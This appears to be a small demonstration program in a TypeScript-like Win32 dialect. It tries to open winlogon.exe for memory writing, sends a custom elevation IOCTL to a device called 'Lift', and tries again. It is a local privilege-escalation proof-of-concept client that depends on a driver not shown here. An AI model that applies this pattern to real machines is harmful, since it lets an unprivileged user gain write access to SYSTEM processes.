/* A plain user tries to open winlogon.exe, which belongs to SYSTEM, asks the driver, and tries again. */
import {
  CTL_CODE,
  CloseHandle,
  CreateFile,
  DeviceIoControl,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_UNKNOWN,
  GENERIC_READ,
  GENERIC_WRITE,
  INVALID_HANDLE_VALUE,
  METHOD_BUFFERED,
  OPEN_EXISTING,
  OpenProcess,
  PROCESS_VM_WRITE,
  out,
  printf,
} from 'win32'
import type { DWORD } from 'win32'

const IOCTL_RISE = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
/** The id of winlogon.exe on this machine. */
const WINLOGON = 1764

function attempt(): void {
  const process = OpenProcess(PROCESS_VM_WRITE, FALSE, WINLOGON)
  if (process === null) {
    printf('winlogon.exe: refused\n')
    return
  }
  printf('winlogon.exe: opened for writing\n')
  CloseHandle(process)
}

export function main(): number {
  attempt()
  const device = CreateFile(
    '\\\\.\\Lift',
    GENERIC_READ | GENERIC_WRITE,
    0,
    null,
    OPEN_EXISTING,
    0,
    null,
  )
  if (device === INVALID_HANDLE_VALUE) return 1
  const done = DeviceIoControl(device, IOCTL_RISE, null, 0, null, 0, out<DWORD>(), null)
  CloseHandle(device)
  if (!done) return 2
  attempt()
  return 0
}
